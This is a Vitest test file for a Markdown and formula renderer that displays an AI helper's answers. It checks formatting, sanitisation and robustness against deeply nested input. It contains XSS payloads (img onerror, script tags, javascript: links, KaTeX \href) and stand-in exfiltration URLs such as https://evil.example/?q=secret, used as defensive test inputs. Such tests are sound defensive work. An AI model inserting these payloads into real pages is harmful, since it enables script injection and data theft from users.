import katex from "katex";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { formulaHtml } from "./formula.tsx";
import { Markdown, safeAddress } from "./markdown.tsx";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("answers of the AI helper", () => {
  test("headings, lists, code, tables and emphasis are rendered", () => {
    expect(html("# Idea\n\n**Sort** *first*")).toContain("<h4>Idea</h4><p><strong>Sort</strong> <em>first</em></p>");
    expect(html("3. a\n4. b")).toContain('<ol start="3"><li>a</li><li>b</li></ol>');
    expect(html("- a\n  - b")).toContain("<ul><li>a<ul><li>b</li></ul></li></ul>");
    expect(html("```cpp\nif (a < b) {}\n```")).toContain("<pre><code>if (a &lt; b) {}</code></pre>");
    expect(html("```cpp · our judge: Wrong Answer, 1 of 3 tests passed\nx\n```")).toContain(
      '<p class="code-label">our judge: Wrong Answer, 1 of 3 tests passed</p><pre><code>x</code></pre>',
    );
    expect(html("|n|f|\n|-|-|\n|1|`x`|")).toContain("<td><code>x</code></td>");
    expect(html("a &lt; b && c")).toContain("a &lt; b &amp;&amp; c");
  });

  test("HTML stays text", () => {
    for (const attack of [
      "<img src=x onerror=alert(1)>",
      "text <script>alert(1)</script>",
      "<iframe src='https://e.example'></iframe>",
      "<a href='javascript:alert(1)'>x</a>",
      "<svg/onload=alert(1)>",
    ]) {
      expect(html(attack)).not.toMatch(/<(?:img|script|iframe|a|svg)[\s>/]/i);
    }
  });

  test.each(["> ", ">", "- ", "* ", "7. ", "> - "])("%j in each other without end stay text", (marker) => {
    const text = `Well:\n\n${marker.repeat(8_000)}x`;
    expect(html(text)).toContain("<p>Well:");
    expect(html(text)).not.toMatch(/<(?:blockquote|ul|ol)>/);
  });

  test("lines of dashes and stars are what they were, and some quotes in each other as well", () => {
    expect(html(`a\n\n${"-".repeat(80)}\n\n${"*".repeat(80)}\n\nb`)).toContain("<hr/>");
    expect(html(`${"> ".repeat(30)}x`)).toContain("<blockquote>");
  });

  test("images are never fetched, only named", () => {
    expect(html("![a cat](https://evil.example/?q=secret)")).toBe(
      '<div class="problem-text text-sm"><p><em>[a cat]</em></p></div>',
    );
  });

  test("links lead to known references only, without anything that could carry data out", () => {
    const reference = "https://en.cppreference.com/w/cpp";
    expect(html(`[x](${reference}?leak=1#c)`)).toContain(`href="${reference}"`);
    expect(html(`see ${reference}?leak=1`)).toContain(`href="${reference}"`);
    for (const href of [
      "javascript:alert(1)",
      "data:text/html,x",
      "/user/logout",
      "//evil.example",
      "ftp://a.example",
      "https://evil.example/my-code-in-the-path",
      "http://en.wikipedia.org/wiki/Graph",
      "https://en.wikipedia.org.evil.example/",
    ]) {
      expect(safeAddress(href)).toBeNull();
      expect(html(`[x](${href})`)).not.toContain("<a ");
    }
    expect(safeAddress("https://user:pw@nodejs.org/api")).toBe("https://nodejs.org/api");
  });

  test("a half-written answer is rendered as far as it goes", () => {
    const whole = "# A\n\n```js\nlet x = [1, 2];\n```\n\n1. **b** [c](https://a.example) | d |\n|-|";
    for (let end = 0; end <= whole.length; end += 1) expect(() => html(whole.slice(0, end))).not.toThrow();
  });

  test("formulas are found in all four spellings, and money is none", () => {
    for (const text of ["$O(n)$", "$$O(n)$$", "\\(O(n)\\)", "\\[O(n)\\]"]) {
      expect(html(`so ${text}.`)).toBe(`<div class="problem-text text-sm"><p>so ${text}.</p></div>`);
    }
    expect(html("It costs $5 and then $10, *really*.")).toContain("$5 and then $10, <em>really</em>.");
    expect(html("`a $x$ b`")).toContain("<code>a $x$ b</code>");
    expect(html("$a_i * b_i * c_i$")).toContain("$a_i * b_i * c_i$");
  });

  test("a formula becomes MathML that can neither load nor link anything", () => {
    expect(formulaHtml(katex, "a_i \\le 10^9", false)).toContain("<msub><mi>a</mi><mi>i</mi></msub>");
    for (const attack of ["\\href{javascript:alert(1)}{x}", "\\includegraphics{https://e.example/x.png}"]) {
      expect(formulaHtml(katex, attack, false) ?? "").not.toMatch(/<a |<img|href=/);
    }
    expect(formulaHtml(katex, "<img src=x onerror=alert(1)>", false)).not.toContain("<img");
    expect(formulaHtml(katex, "\\frac{1", false)).toBeNull();
  });

  test("a formula that is nested without end is none, and one of many terms is one", () => {
    expect(formulaHtml(katex, "{".repeat(9_000) + "}".repeat(9_000), true)).toBeNull();
    expect(html(`$$${"x^{".repeat(7_000)}${"}".repeat(7_000)}$$`)).toContain("x^{x^{");
    expect(formulaHtml(katex, "{".repeat(700) + "}".repeat(700), true)).toContain("<math");
    expect(formulaHtml(katex, Array.from({ length: 100 }, (_, i) => `a_{${i}}`).join("+"), true)).toContain("<msub>");
  });
});
